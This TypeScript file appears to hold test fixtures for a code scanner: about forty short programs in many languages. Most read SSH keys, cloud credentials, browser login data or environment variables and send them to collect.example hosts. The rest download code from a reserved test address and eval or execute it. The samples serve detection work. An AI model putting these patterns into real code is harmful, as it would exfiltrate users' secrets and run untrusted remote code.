/** Programs in languages that are read by their calls, each of which does one thing that a person must look at. Inert: reserved names. */
export const SOURCE_FLOWS: [string, string][] = [
  // A key, a store or the whole environment leaves.
  [
    "send.go",
    'package main\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os"\n\t"path/filepath"\n)\n\nfunc load() []byte {\n\thome, _ := os.UserHomeDir()\n\tpath := filepath.Join(home, ".aws", "credentials")\n\tdata, err := os.ReadFile(path)\n\tif err != nil {\n\t\treturn nil\n\t}\n\treturn data\n}\n\nfunc main() {\n\tbody := load()\n\treq, _ := http.NewRequest("POST", "https://stat.units.example/u", bytes.NewReader(body))\n\thttp.DefaultClient.Do(req)\n}\n',
  ],
  [
    "env.go",
    'package main\n\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\n\nfunc main() {\n\tall := strings.Join(os.Environ(), "\\n")\n\thttp.Post("https://collect.example/e", "text/plain", strings.NewReader(all))\n}\n',
  ],
  [
    "env.rs",
    'use std::collections::HashMap;\n\nfn main() {\n    let vars: HashMap<String, String> = std::env::vars().collect();\n    let client = reqwest::blocking::Client::new();\n    client\n        .post("https://collect.example/e")\n        .json(&vars)\n        .send()\n        .unwrap();\n}\n',
  ],
  [
    "Take.java",
    'import java.net.URI;\nimport java.net.http.*;\nimport java.nio.file.*;\n\npublic class Take {\n    static String read(Path p) throws Exception {\n        return Files.readString(p);\n    }\n\n    public static void main(String[] args) throws Exception {\n        Path key = Path.of(System.getProperty("user.home"), ".ssh", "id_ed25519");\n        String text = read(key);\n        HttpRequest request = HttpRequest.newBuilder()\n            .uri(URI.create("https://collect.example/k"))\n            .POST(HttpRequest.BodyPublishers.ofString(text))\n            .build();\n        HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());\n    }\n}\n',
  ],
  [
    "env.kt",
    'import java.net.HttpURLConnection\nimport java.net.URL\n\nfun main() {\n    val body = System.getenv().entries.joinToString("\\n")\n    val c = URL("https://collect.example/e").openConnection() as HttpURLConnection\n    c.doOutput = true\n    c.outputStream.write(body.toByteArray())\n    c.responseCode\n}\n',
  ],
  [
    "Grab.cs",
    'using System;\nusing System.IO;\nusing System.Net.Http;\n\nclass Grab\n{\n    static async System.Threading.Tasks.Task Main()\n    {\n        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);\n        var path = Path.Combine(home, "AppData", "Local", "Google", "Chrome", "User Data", "Default", "Login Data");\n        var bytes = File.ReadAllBytes(path);\n        using var client = new HttpClient();\n        await client.PostAsync("https://collect.example/c", new ByteArrayContent(bytes));\n    }\n}\n',
  ],
  [
    "env.fsx",
    'open System\nopen System.Net.Http\nlet all = Environment.GetEnvironmentVariables()\nlet text = String.Join("\\n", all)\nlet client = new HttpClient()\nclient.PostAsync("https://collect.example/e", new StringContent(text)).Result |> ignore\n',
  ],
  [
    "Take.vb",
    'Imports System.Net\nModule Take\n  Sub Main()\n    Dim k = System.IO.File.ReadAllText(Environment.GetEnvironmentVariable("USERPROFILE") & "\\.ssh\\id_rsa")\n    Dim c As New WebClient()\n    c.UploadString("https://collect.example/k", k)\n  End Sub\nEnd Module\n',
  ],
  [
    "take.R",
    'library(httr)\nkeys <- readLines(file.path(Sys.getenv("HOME"), ".netrc"))\nres <- POST("https://collect.example/r", body = list(k = paste(keys, collapse = "\\n")))\n',
  ],
  [
    "take.lua",
    'local http = require("socket.http")\nlocal function slurp(p)\n  local f = io.open(p, "r")\n  if not f then return "" end\n  local s = f:read("*a")\n  f:close()\n  return s\nend\nlocal body = slurp(os.getenv("HOME") .. "/.ssh/id_rsa")\nhttp.request("https://collect.example/l", body)\n',
  ],
  [
    "take.ex",
    'key = File.read!(Path.join(System.user_home!(), ".ssh/id_rsa"))\nHTTPoison.post("https://collect.example/x", key)\n',
  ],
  [
    "take.erl",
    '-module(take).\n-export([go/0]).\ngo() ->\n    {ok, K} = file:read_file(filename:join(os:getenv("HOME"), ".ssh/id_rsa")),\n    httpc:request(post, {"https://collect.example/x", [], "text/plain", K}, [], []).\n',
  ],
  [
    "take.jl",
    'using HTTP\nkey = read(joinpath(homedir(), ".aws", "credentials"), String)\nHTTP.post("https://collect.example/j", [], key)\n',
  ],
  [
    "take.nim",
    'import httpclient, os\nlet key = readFile(getHomeDir() / ".ssh/id_rsa")\nlet c = newHttpClient()\ndiscard c.postContent("https://collect.example/n", body = key)\n',
  ],
  [
    "Take.hs",
    'import Network.HTTP.Simple\nimport qualified Data.ByteString as B\nmain = do\n  k <- B.readFile "/root/.ssh/id_rsa"\n  let req = setRequestBodyBS k "POST https://collect.example/h"\n  httpLBS (setRequestMethod "POST" (setRequestBody (RequestBodyBS k) "https://collect.example/h"))\n',
  ],
  [
    "take.clj",
    '(require \'[clj-http.client :as client])\n(def k (slurp (str (System/getProperty "user.home") "/.ssh/id_rsa")))\n(client/post "https://collect.example/c" {:body k})\n',
  ],
  [
    "take.el",
    '(let ((url-request-method "POST")\n      (url-request-data (with-temp-buffer (insert-file-contents "~/.authinfo") (insert-file-contents "~/.ssh/id_rsa") (buffer-string))))\n  (url-retrieve-synchronously "https://collect.example/el"))\n',
  ],
  [
    "take.swift",
    'import Foundation\nlet home = FileManager.default.homeDirectoryForCurrentUser\nlet data = try Data(contentsOf: home.appendingPathComponent(".ssh/id_rsa"))\nvar request = URLRequest(url: URL(string: "https://collect.example/s")!)\nrequest.httpMethod = "POST"\nlet task = URLSession.shared.uploadTask(with: request, from: data)\ntask.resume()\n',
  ],
  [
    "take.m",
    'NSString *p = [NSHomeDirectory() stringByAppendingPathComponent:@".ssh/id_rsa"];\nNSData *d = [NSData dataWithContentsOfFile:p];\nNSMutableURLRequest *r = [NSMutableURLRequest requestWithURL:[NSURL URLWithString:@"https://collect.example/m"]];\n[r setHTTPMethod:@"POST"];\n[r setHTTPBody:d];\n[[[NSURLSession sharedSession] dataTaskWithRequest:r] resume];\n',
  ],
  [
    "take.c",
    '#include <stdio.h>\n#include <curl/curl.h>\nint main(void) {\n  char path[256], buf[8192];\n  snprintf(path, sizeof path, "%s/.ssh/id_rsa", getenv("HOME"));\n  FILE *f = fopen(path, "r");\n  fread(buf, 1, sizeof buf, f);\n  CURL *c = curl_easy_init();\n  curl_easy_setopt(c, CURLOPT_URL, "https://collect.example/c");\n  curl_easy_setopt(c, CURLOPT_POSTFIELDS, buf);\n  curl_easy_perform(c);\n}\n',
  ],
  [
    "take.dart",
    "import 'dart:io';\nimport 'package:http/http.dart' as http;\nFuture<void> main() async {\n  await http.post(Uri.parse('https://collect.example/d'), body: Platform.environment.toString());\n}\n",
  ],
  [
    "take.tcl",
    'package require http\nset f [open "$::env(HOME)/.ssh/id_rsa"]\nset k [read $f]\n::http::geturl https://collect.example/t -query $k\n',
  ],
  [
    "take.vbs",
    'Set fso = CreateObject("Scripting.FileSystemObject")\nhome = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%USERPROFILE%")\nSet f = fso.OpenTextFile(home & "\\.aws\\credentials", 1)\nk = f.ReadAll\nSet x = CreateObject("MSXML2.ServerXMLHTTP")\nx.Open "POST", "https://collect.example/v", False\nx.Send k\n',
  ],
  ["take.nu", "let key = (open ~/.ssh/id_rsa)\nhttp post https://collect.example/n $key\n"],
  ["take.fish", "set key (cat ~/.ssh/id_rsa)\ncurl -s -d $key https://collect.example/f\n"],
  [
    "keys.go",
    'package main\nimport ("bytes";"encoding/json";"net/http";"os")\nfunc main() {\n\tm := map[string]string{"a": os.Getenv("OPENAI_API_KEY"), "b": os.Getenv("AWS_SECRET_ACCESS_KEY"), "c": os.Getenv("GITHUB_TOKEN")}\n\tb, _ := json.Marshal(m)\n\thttp.Post("https://collect.example/k", "application/json", bytes.NewReader(b))\n}\n',
  ],
  // What is fetched becomes code, or a program.
  [
    "Load.java",
    'import java.net.*;\nimport javax.script.*;\npublic class Load {\n  public static void main(String[] a) throws Exception {\n    String code = new String(new URL("http://203.0.113.9/a.js").openStream().readAllBytes());\n    ScriptEngine engine = new ScriptEngineManager().getEngineByName("js");\n    engine.eval(code);\n  }\n}\n',
  ],
  [
    "load.cs",
    'using System.Net;\nusing System.Reflection;\nclass L {\n  static void Main() {\n    byte[] raw = new WebClient().DownloadData("https://cdn.fmt.example/a.dll");\n    var asm = Assembly.Load(raw);\n    asm.EntryPoint.Invoke(null, null);\n  }\n}\n',
  ],
  ["load.R", 'eval(parse(text = readLines("http://203.0.113.9/a.R")))\n'],
  [
    "load.jl",
    'using Downloads\ncode = read(Downloads.download("http://203.0.113.9/a.jl"), String)\ninclude_string(Main, code)\n',
  ],
  ["load.exs", 'body = HTTPoison.get!("http://203.0.113.9/a.exs").body\nCode.eval_string(body)\n'],
  [
    "build.gradle",
    'task fetch {\n  doLast {\n    def code = new URL("http://203.0.113.9/a.groovy").text\n    new GroovyShell().evaluate(code)\n  }\n}\n',
  ],
  [
    "load.el",
    '(with-current-buffer (url-retrieve-synchronously "http://203.0.113.9/a.el")\n  (eval (read-from-string (buffer-string))))\n',
  ],
  ["load.clj", '(load-string (slurp "http://203.0.113.9/a.clj"))\n'],
  [
    "load.vbs",
    'Set h = CreateObject("WinHttp.WinHttpRequest.5.1")\nh.Open "GET", "http://203.0.113.9/a.vbs", False\nh.Send\nExecuteGlobal h.ResponseText\n',
  ],
  [
    "load.rs",
    'use std::fs;\nuse std::process::Command;\nfn main() {\n    let bytes = reqwest::blocking::get("http://203.0.113.9/a").unwrap().bytes().unwrap();\n    let path = "/tmp/.helper";\n    fs::write(path, &bytes).unwrap();\n    Command::new("chmod").arg("+x").arg(path).status().unwrap();\n    Command::new(path).spawn().unwrap();\n}\n',
  ],
  [
    "load.go",
    'package main\nimport ("io";"net/http";"os";"os/exec")\nfunc fetch(url, dest string) error {\n\tresp, err := http.Get(url)\n\tif err != nil {\n\t\treturn err\n\t}\n\tout, _ := os.Create(dest)\n\tio.Copy(out, resp.Body)\n\treturn out.Close()\n}\nfunc main() {\n\tfetch("https://files.fmt.example/agent", "/tmp/agent")\n\tos.Chmod("/tmp/agent", 0o755)\n\texec.Command("/tmp/agent").Start()\n}\n',
  ],
  ["load.ahk", "UrlDownloadToFile, http://203.0.113.9/a.exe, %A_Temp%\\a.exe\nRun, %A_Temp%\\a.exe\n"],
  ["load.au3", 'InetGet("http://203.0.113.9/a.exe", @TempDir & "\\a.exe")\nRun(@TempDir & "\\a.exe")\n'],
  [
    "load.kts",
    'val f = java.io.File("/tmp/a.sh")\nf.writeBytes(java.net.URL("http://203.0.113.9/a.sh").readBytes())\nProcessBuilder("bash", "/tmp/a.sh").start()\n',
  ],
  [
    "load.c",
    '#include <windows.h>\nint main() {\n  URLDownloadToFileA(NULL, "http://203.0.113.9/a.exe", "C:\\\\Temp\\\\a.exe", 0, NULL);\n  WinExec("C:\\\\Temp\\\\a.exe", SW_HIDE);\n}\n',
  ],
  ["run.sh", "curl -s http://203.0.113.9/a.lua | lua -\n"],
  ["run2.sh", "wget -qO- http://203.0.113.9/a.R | Rscript -\n"],
  ["run3.sh", "curl -s http://203.0.113.9/a.exs | elixir\n"],
  ["run4.sh", "curl -s http://203.0.113.9/a.go | go run -\n"],
];
